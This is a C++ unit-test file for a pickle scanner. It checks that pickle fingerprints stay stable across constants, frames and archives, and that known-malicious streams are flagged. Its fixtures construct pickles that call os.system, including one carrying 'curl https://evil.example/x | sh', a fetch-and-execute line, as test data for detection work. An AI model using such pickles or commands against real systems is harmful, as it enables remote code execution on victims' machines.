// The identity of pickles (docs/formats/pickle-fingerprint.md): what leaves it as it is, what makes another.
#include <gtest/gtest.h>

#include <fmt/format.h>

#include "scans.hpp"
#include "zips.hpp"

namespace tocsin::tests {
namespace {

using namespace std::string_literals;
using scan::Report;
using scan::Stream;

Report streams_of(std::string_view bytes, const scan::Indicators* known = nullptr) {
  scan::models::Options options;
  options.streams = true;
  options.indicators = known;
  return scan::models::scan_bytes("test", std::as_bytes(std::span(bytes.data(), bytes.size())), names(), options);
}
Stream only(std::string_view bytes) {
  const Report report = streams_of(bytes);
  EXPECT_EQ(report.streams.size(), 1u) << told(report);
  return report.streams.empty() ? Stream() : report.streams[0];
}
std::string hex(std::string_view bytes) {
  const auto stream = only(bytes);
  return stream.opcodes ? stream.opcodes->hex() : "";
}
std::string size4(std::size_t n) {
  std::string out;
  for (int i = 0; i < 4; ++i) out += static_cast<char>(n >> (8 * i));
  return out;
}
// os.system(command) as protocol 4 has it.
std::string call(std::string_view command, std::string_view module = "os", bool memo = true) {
  const std::string m = memo ? "\x94" : "";
  const std::string text = command.size() < 256 ? "\x8c"s + static_cast<char>(command.size()) + std::string(command)
                                                : "X" + size4(command.size()) + std::string(command);
  return "\x80\x04\x8c"s + static_cast<char>(module.size()) + std::string(module) + m + "\x8c\x06system"s + m + "\x93" +
         m + text + m + "\x85" + m + "R" + m + ".";
}

TEST(Fingerprint, IsTheOneOfTheDocument) {
  EXPECT_EQ(hex("cos\nsystem\n(S'id'\ntR."), "a7e562198add0dde67d3d4e832c6ce5dbd7f7a943a63e289b18128999b2050f8");
  EXPECT_EQ(only("cos\nsystem\n(S'id'\ntR.").counted, 6u);
}

TEST(Fingerprint, SurvivesOtherConstantsOfAnyLength) {
  const std::string same = hex(call("id"));
  EXPECT_EQ(hex(call("curl https://evil.example/x | sh")), same);
  EXPECT_EQ(hex(call(std::string(300, 'a'))), same);
  EXPECT_EQ(hex(call("id", "posix")), same);
  // Numbers, booleans, bytes.
  EXPECT_EQ(hex("\x80\x02(K\1M\1\1\x88"
                "C\1xt."),
            hex("\x80\x02(J\1\1\1\1\x8a\1\1\x89"
                "B\1\0\0\0yt."s));
  EXPECT_EQ(hex("(I01\nI5\nF1.5\nt."), hex("(I00\nL7L\nG\0\0\0\0\0\0\0\0t."s));
}

TEST(Fingerprint, SurvivesFramesProtocolMarksAndTheMemo) {
  const std::string plain = call("id", "os", false);
  const std::string same = hex(plain);
  EXPECT_EQ(hex(call("id")), same);
  EXPECT_EQ(hex("\x80\x05"s + plain.substr(2)), same);
  const std::string body = plain.substr(2);
  EXPECT_EQ(hex("\x80\x04\x95"s + static_cast<char>(body.size()) + std::string(7, '\0') + body), same);
  std::string put = plain;
  put.insert(put.size() - 1, "q\5r\1\2\0\0"s);
  EXPECT_EQ(hex(put), same);
}

TEST(Fingerprint, IsAnotherOfAnotherStructure) {
  const std::string same = hex(call("id"));
  std::string other = call("id");
  other.insert(other.size() - 1, "0N");
  EXPECT_NE(hex(other), same);
  EXPECT_NE(hex("\x80\x02)."), hex("\x80\x02]."));
  EXPECT_NE(hex("(I1\nI2\nt."), hex("(I1\nI01\nt.")) << "a boolean is no number";
  EXPECT_NE(hex("\x80\x04"
                "C\1x."),
            hex("\x80\x04\x8c\1x."))
      << "bytes are no text";
}

TEST(Fingerprint, LeavesOutArraysInMidStream) {
  const auto joblib = [](std::string_view shape, std::size_t bytes, char fill) {
    return "\x80\x03"
           "cjoblib.numpy_pickle\nNumpyArrayWrapper\n)\x81}(X\5\0\0\0shapeK"s +
           std::string(shape) + "\x85X\5\0\0\0dtypecnumpy\ndtype\nX\2\0\0\0u1K\0K\1\x87Rub"s +
           std::string(bytes, fill) + "."s;
  };
  const auto a = only(joblib("\x05", 5, 'N')), b = only(joblib("\x09", 9, '0'));
  EXPECT_EQ(a.opcodes, b.opcodes);
  EXPECT_NE(a.sha256, b.sha256);
  EXPECT_EQ(a.end, joblib("\x05", 5, 'N').size());
}

TEST(Streams, KeepTheirDigestWhateverTheyArePackedIn) {
  const std::string evil = call("id");
  const auto raw = only(evil);
  EXPECT_EQ(raw.sha256, sha256(evil));
  const std::string first = zip_of({{"archive/data.pkl", evil}}),
                    second = zip_of({{"x/y.bin", "text, and more of it"}, {"m/data.pkl", evil}});
  for (const std::string& archive : {first, second, zip_of({{"inner.zip", first}})}) {
    const Report report = streams_of(archive);
    ASSERT_FALSE(report.streams.empty());
    for (const Stream& stream : report.streams) {
      EXPECT_EQ(stream.sha256, raw.sha256);
      EXPECT_EQ(stream.opcodes, raw.opcodes);
      EXPECT_TRUE(stream.member.ends_with("data.pkl")) << stream.member;
    }
    EXPECT_NE(report.sha256, raw.sha256);
  }
}

TEST(Streams, AreEachOfSeveralInARow) {
  const std::string a = "\x80\x02N.", b = call("id");
  const Report report = streams_of(a + b);
  ASSERT_EQ(report.streams.size(), 2u);
  EXPECT_EQ(report.streams[0].sha256, sha256(a));
  EXPECT_EQ(report.streams[1].sha256, sha256(b));
  EXPECT_EQ(report.streams[1].begin, 4u);
  EXPECT_EQ(report.streams[1].end, 4 + b.size());
}

TEST(Streams, AreThoseInConstantsAsWell) {
  const std::string inner = call("id");
  const Report report = streams_of(
      "\x80\x04"
      "C"s +
      static_cast<char>(inner.size()) + inner + ".");
  ASSERT_EQ(report.streams.size(), 2u);
  EXPECT_EQ(report.streams[0].sha256, sha256(inner));
}

TEST(Streams, ThatBreakOffEndWithTheirPart) {
  const std::string cut = call("id").substr(0, 30), archive = zip_of({{"data.pkl", cut}});
  EXPECT_EQ(only(cut).sha256, sha256(cut));
  EXPECT_EQ(only(archive).sha256, sha256(cut));
  EXPECT_EQ(only(archive).end, cut.size());
}

TEST(Streams, AreToldWhenTheyAreAskedForOnly) {
  EXPECT_TRUE(scan_text(call("id")).streams.empty());
}

TEST(Streams, OfAMillionPicklesAreCountedNotKept) {
  std::string bytes;
  for (int i = 0; i < 3000; ++i) bytes += "\x80\x02N.";
  const Report report = streams_of(bytes);
  EXPECT_EQ(report.streams.size(), 1000u);
  EXPECT_EQ(report.streams_left_out, 2000u);
}

// ---- against a list ----

scan::Indicators list(std::string_view type, const Digest& digest) {
  auto out =
      scan::Indicators::parse(fmt::format("type,value,name\n{},{},known thing\n", type, digest.hex()), "list.csv");
  EXPECT_TRUE(out);
  return *out;
}
const scan::Finding* hit(const Report& report) {
  for (const auto& finding : report.findings)
    if (finding.rule->id == "known-malicious") return &finding;
  return nullptr;
}

TEST(KnownPickles, AreFoundInAnyArchive) {
  const std::string evil = call("id");
  const auto known = list("sha256", sha256(evil));
  const Report report = streams_of(zip_of({{"a/data.pkl", evil}}), &known);
  ASSERT_NE(hit(report), nullptr);
  EXPECT_EQ(hit(report)->severity, scan::Severity::malicious);
  EXPECT_EQ(hit(report)->place.member, "a/data.pkl");
  EXPECT_EQ(hit(streams_of(zip_of({{"a/data.pkl", call("ls")}}), &known)), nullptr);
}

TEST(KnownPickles, AreFoundWithOtherStrings) {
  const auto known = list("opcodes", *only(call("id")).opcodes);
  const Report report = streams_of(zip_of({{"a/data.pkl", call("curl x | sh", "posix")}}), &known);
  ASSERT_NE(hit(report), nullptr);
  EXPECT_EQ(hit(report)->severity, scan::Severity::suspicious);
}

TEST(KnownPickles, OfTheSameShapeThatDoNothingAreInformation) {
  const std::string path =
      "\x80\x04\x8c\x0b"
      "collections\x8c\x0bOrderedDict\x93\x8c\1a\x85R."s;
  const auto known = list("opcodes", *only(call("id", "os", false)).opcodes);
  EXPECT_EQ(only(path).opcodes, only(call("id")).opcodes);
  const Report report = streams_of(path, &known);
  ASSERT_NE(hit(report), nullptr);
  EXPECT_EQ(hit(report)->severity, scan::Severity::info);
  EXPECT_EQ(report.worst(), scan::Severity::info) << told(report);
}

}  // namespace
}  // namespace tocsin::tests
